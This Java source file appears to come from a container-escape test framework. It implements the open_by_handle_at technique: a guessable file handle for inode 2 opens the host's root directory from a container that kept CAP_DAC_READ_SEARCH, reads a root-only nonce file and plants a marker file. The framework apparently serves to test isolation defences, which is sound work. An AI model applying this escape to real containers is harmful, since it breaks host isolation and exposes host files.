package nutshell.escapes;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import nutshell.mounts.MountInfo;

/** Opens the root of a file system by its handle, which is easily guessed, from a mount of some directory of it; see open_by_handle_at(2). */
record OpenByHandle() implements Escape {

    @Override
    public String word() {
        return "open-by-handle";
    }

    @Override
    public String mistake() {
        return "CAP_DAC_READ_SEARCH was left, and a directory of the host is shared";
    }

    @Override
    public Defence fix() {
        return Defence.DEFAULT_CAPABILITIES;
    }

    private static final int FILEID_INO32_GEN = 1;
    /** The root directory of every ext file system; its generation is 0. */
    private static final int ROOT_INODE = 2;

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        blueprint.mount(new HostMount(stake.disk().volume(), "vol", false, false));
    }

    @Override
    public void prepare(Stake stake) {
        stake.disk().renew(stake.nonce());
    }

    @Override
    public Path left(Stake stake) {
        return stake.disk().left();
    }

    @Override
    public boolean takesAnyVolume() {
        return true;
    }

    @Override
    public List<Attack> ways(Scene scene) {
        byte[] handle = ByteBuffer.allocate(16)
                .order(ByteOrder.nativeOrder())
                .putInt(8)
                .putInt(FILEID_INO32_GEN)
                .putInt(ROOT_INODE)
                .putInt(0)
                .array();
        return List.of(
                attacker -> {
                    int root = root(attacker, scene.at(scene.stake().disk().volume()), handle);
                    int nonce = attacker.note("only the host's root reads it").openBelow(root, "nonce");
                    attacker.tell(nonce).close(nonce);
                    attacker.note("a file that only the host's root could leave")
                            .createBelow(root, "was-here");
                },
                attacker -> {
                    // Its own root may lie on a file system of the host's, too.
                    int root = root(attacker, "/", handle);
                    int nonce = attacker.note("only the host's root reads it")
                            .openBelow(root, onItsFileSystem(scene.stake().nonceFile()));
                    attacker.tell(nonce);
                });
    }

    private static int root(Attacker attacker, String place, byte[] handle) {
        int directory = attacker.open(place);
        return attacker.note("inode 2 of this file system is its root: above what is mounted")
                .opening(
                        "open_by_handle_at",
                        List.of(Integer.toString(directory), "{FILEID_INO32_GEN, inode 2}", "O_RDONLY"),
                        directory,
                        handle,
                        0);
    }

    /** A path as the file system has it that it lies on. */
    private static String onItsFileSystem(Path path) {
        return MountInfo.read(Path.of("/proc/self/mountinfo")).stream()
                .filter(mount -> path.startsWith(mount.mountPoint()))
                .max(Comparator.comparingInt(mount -> mount.mountPoint().length()))
                .map(mount -> Path.of(mount.mountPoint()).relativize(path).toString())
                .orElse(path.toString());
    }
}
